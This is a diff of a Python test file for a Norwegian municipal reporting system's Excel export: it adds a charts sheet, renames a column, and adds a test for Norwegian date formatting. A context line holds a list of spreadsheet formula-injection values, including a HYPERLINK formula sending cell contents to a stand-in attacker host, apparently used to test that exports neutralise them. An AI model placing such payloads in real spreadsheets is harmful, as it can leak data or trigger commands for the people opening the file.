@@ -30,6 +30,7 @@ GENERATED = timezone.make_aware(datetime.datetime(2021, 4, 30, 12, 0))
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\x00=1"]
 OFFICE_SHEETS = [
     "Sammendrag",
+    "Diagrammer",
     "Kommuner",
     "Mangler",
     "Prioriteringer",
@@ -183,7 +184,8 @@ def test_the_office_package_looks_finished_and_holds_no_codes(spring, office_a, 
     header = next(i for i, r in enumerate(rows(wb["Sammendrag"]), start=1) if r[0] == "Kode")
     charted = [key for key in spring.figures if key in FIGURES]
     first, last = header + 2, header + 1 + len(charted)
-    assert chart_references(content, "Sammendrag") == [
+    assert chart_references(content, "Sammendrag") == []  # the charts are on clean cells of their own sheet
+    assert chart_references(content, "Diagrammer") == [
         f"'Sammendrag'!$D${header}",
         f"'Sammendrag'!$B${first}:$B${last}",
         f"'Sammendrag'!$D${first}:$D${last}",
@@ -292,7 +294,28 @@ def test_a_snapshot_stored_before_the_labels_still_renders_in_norwegian(spring, 
     assert oslo["Forankret i handlingsplan/økonomiplan"] == "Ikke forankret"
     assert oslo["Nettverk"] == "2 nettverk (deltar eller planlegger å delta)"
     assert oslo["Prioriterte innsatsområder og løsninger"] == "Et aldersvennlig Norge\nMat og måltider"
-    assert "ble laget før manglene" in table(wb["Mangler"])[-1]["Forklaring"]
+    assert "ble laget før manglene" in table(wb["Mangler"])[-1]["Slik rettes det"]
     assert summary_country(wb["Sammendrag"])["municipalities"][0] == 356
     for ws in wb:
         assert no_codes(ws) == [], ws.title
+
+
+def test_chosen_examples_print_their_dates_the_norwegian_way(spring, office_a, staff_a):
+    from municipalities.models import GoodExample
+    from reporting.reports.services import report_texts_save
+    from tests.factories import municipality
+
+    chosen = GoodExample.objects.create(
+        municipality=municipality("0301"),
+        title="Måltidsvert",
+        text="t",
+        date=datetime.date(2021, 5, 3),
+        recorded_by=staff_a,
+    )
+    report_texts_save(
+        office=office_a, period=spring, texts={"examples": "Se eksemplene."}, user=staff_a, round=None,
+        example_ids=[chosen.pk],
+    )  # fmt: skip
+    texts = " ".join(r["Tekst"] or "" for r in table(workbook(build(spring, office_a))["Tekster"]))
+    assert "Måltidsvert (Oslo, 3.5.2021)" in texts
+    assert "2021-05-03" not in texts
